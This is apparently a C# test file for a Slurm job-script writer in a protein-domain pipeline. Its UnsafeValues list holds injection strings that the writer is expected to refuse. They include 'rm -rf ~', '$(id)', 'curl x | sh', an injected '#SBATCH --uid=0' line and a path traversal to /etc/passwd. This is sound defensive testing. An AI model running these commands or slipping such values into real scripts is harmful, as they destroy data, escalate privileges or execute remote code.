using EcodMini.Core.Slurm;
using EcodMini.Core.WorkerModules;

namespace EcodMini.Core.Tests.Slurm;

public class JobScriptWriterTests
{
    private static JobScriptRequest Request => new()
    {
        JobName = "ecod-run20261130",
        Partition = "debug",
        Time = "1:00:00",
        Memory = "4G",
        CpusPerTask = 2,
        LogDirectory = "/shared/ecod/logs/",
        WorkingDirectory = "/shared/ecod/work/run20261130/array-000",
        WorkerProgram = ["/usr/share/dotnet/dotnet", "/opt/pwsh/pwsh.dll"],
        Module = new WorkerModule { Version = "1.0.0", ManifestPath = "/opt/ecod/EcodMini/1.0.0/EcodMini.psd1" },
        ManifestPath = "/shared/ecod/work/run20261130/array-000/array.json",
        EnvSetupScript = "/home/user/.ecod-env.sh",
        ArrayCount = 400,
        MaxConcurrent = 50,
        WarningSeconds = 120,
    };

    [Fact]
    public void An_array_script_matches_the_recorded_golden_file()
    {
        AssertGolden("job_array.sh.golden", JobScriptWriter.Build(Request));
    }

    [Fact]
    public void A_per_protein_script_matches_the_recorded_golden_file()
    {
        var request = Request with { ArrayCount = null, EnvSetupScript = null, WorkingDirectory = "/shared/ecod/work/run20261130/p-1abc_A", ManifestPath = "/shared/ecod/work/run20261130/p-1abc_A/chunk.json" };
        AssertGolden("job_single.sh.golden", JobScriptWriter.Build(request));
    }

    /// <summary>Compares with the recorded script; ECOD_UPDATE_GOLDEN=1 rewrites the file instead (review the diff!).</summary>
    private static void AssertGolden(string file, string actual)
    {
        if (Environment.GetEnvironmentVariable("ECOD_UPDATE_GOLDEN") == "1")
            File.WriteAllText(Path.Combine(SlurmTestData.Root, file), actual);
        Assert.Equal(SlurmTestData.Read(file), actual);
    }

    [Fact]
    public void The_job_imports_exactly_the_pinned_manifest_with_plain_text_output()
    {
        var script = JobScriptWriter.Build(Request);
        Assert.Contains("-Command '$PSStyle.OutputRendering = \"PlainText\"; Import-Module -Name \"/opt/ecod/EcodMini/1.0.0/EcodMini.psd1\" -ErrorAction Stop; Invoke-EcodPartition", script);
    }

    [Fact]
    public void A_version_pin_imports_by_name_with_RequiredVersion()
    {
        var script = JobScriptWriter.Build(Request with { Module = Request.Module with { ImportByName = true, Version = "1.2.0" } });
        Assert.Contains("Import-Module -Name EcodMini -RequiredVersion 1.2.0 -ErrorAction Stop; Invoke-EcodPartition", script);
        Assert.DoesNotContain("/opt/ecod/EcodMini/1.0.0", script);
    }

    [Fact]
    public void Without_a_partition_the_cluster_default_applies()
    {
        Assert.DoesNotContain("--partition", JobScriptWriter.Build(Request with { Partition = null }));
    }

    [Fact]
    public void Throttle_never_exceeds_the_array()
    {
        Assert.Contains("#SBATCH --array=0-2%3\n", JobScriptWriter.Build(Request with { ArrayCount = 3 }));
    }

    public static TheoryData<string, Func<JobScriptRequest, JobScriptRequest>> UnsafeValues => new()
    {
        { "job name", r => r with { JobName = "x;reboot" } },
        { "job name", r => r with { JobName = "1abc_A$(id)" } },
        { "slurm.partition", r => r with { Partition = "debug\n#SBATCH --uid=0" } },
        { "slurm.partition", r => r with { Partition = "a b" } },
        { "slurm.time", r => r with { Time = "1:00:00'; rm -rf ~; '" } },
        { "slurm.memory", r => r with { Memory = "4G`id`" } },
        { "log directory", r => r with { LogDirectory = "/tmp/logs with space" } },
        { "log directory", r => r with { LogDirectory = "relative/logs" } },
        { "log directory", r => r with { LogDirectory = "/tmp/%x" } },
        { "manifest path", r => r with { ManifestPath = "/w/\"a\".json" } },
        { "manifest path", r => r with { ManifestPath = "/w/../etc/passwd" } },
        { "slurm.env_setup_script", r => r with { EnvSetupScript = "/home/u/.bashrc; curl x | sh" } },
        { "worker program", r => r with { WorkerProgram = ["pwsh"] } },
        { "working directory", r => r with { WorkingDirectory = "/w/a&b" } },
        { "module path", r => r with { Module = r.Module with { ManifestPath = "/opt/*/EcodMini.psd1" } } },
        { "module version", r => r with { Module = r.Module with { Version = "1.0.0; rm -rf ~", ImportByName = true } } },
    };

    [Theory]
    [MemberData(nameof(UnsafeValues))]
    public void Values_that_could_change_the_script_are_refused_naming_the_setting(string setting, Func<JobScriptRequest, JobScriptRequest> change)
    {
        var ex = Assert.Throws<UnsafeJobValueException>(() => JobScriptWriter.Build(change(Request)));
        Assert.Equal(setting, ex.Setting);
        Assert.StartsWith(setting + ":", ex.Message);
    }

    [Fact]
    public void Write_leaves_an_executable_script_and_no_temporary_file()
    {
        using var temp = new TempFolder();
        var path = JobScriptWriter.Write(temp.File("a.sh"), Request);
        Assert.Equal(JobScriptWriter.Build(Request), File.ReadAllText(path));
        if (!OperatingSystem.IsWindows()) Assert.True(File.GetUnixFileMode(path).HasFlag(UnixFileMode.UserExecute));
        Assert.Single(Directory.GetFiles(temp.Path));
    }

    [Fact]
    public void An_unsafe_value_writes_nothing()
    {
        using var temp = new TempFolder();
        Assert.Throws<UnsafeJobValueException>(() => JobScriptWriter.Write(temp.File("a.sh"), Request with { Partition = "a;b" }));
        Assert.Empty(Directory.GetFiles(temp.Path));
    }
}
